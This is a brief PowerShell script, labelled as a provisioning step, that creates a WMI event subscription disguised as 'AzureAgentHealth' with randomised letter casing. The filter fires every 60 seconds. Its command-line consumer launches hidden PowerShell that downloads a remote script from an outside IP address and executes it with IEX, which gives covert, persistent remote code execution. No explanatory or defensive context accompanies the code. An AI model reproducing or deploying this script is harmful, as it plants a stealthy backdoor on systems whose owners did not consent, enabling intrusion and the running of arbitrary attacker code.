# PROViSiOn 8405 v3
$fIlTEr = SeT-WmiinStAnce -NAMespaCE roOT\SUbSCRIPTioN -cLAsS __EvENtfiLter -aRGumeNtS @{Name='AzureAgentHealth';eVENtNAMEspAce='root\cimv2';QueryLangUage='WQL';QuerY="SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"}
$cOnsUmer = sEt-wMiinstance -NamESpaCe ROOT\SUbsCRipTIon -Class CoMMAndlineEVeNTCoNsUmeR -ARGuMENTs @{nAmE='AzureAgentHealth';cOmmandlIneTeMplAtE="powershell.exe -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.150/inv.ps1')"}
SET-WmiINStaNce -naMESPAcE rOot\sUBscRiptiON -cLaSs __fILTeRTocoNSuMeRbiNDIng -argumenTS @{filter=$FIlTer;CoNsUMeR=$COnSUmEr}
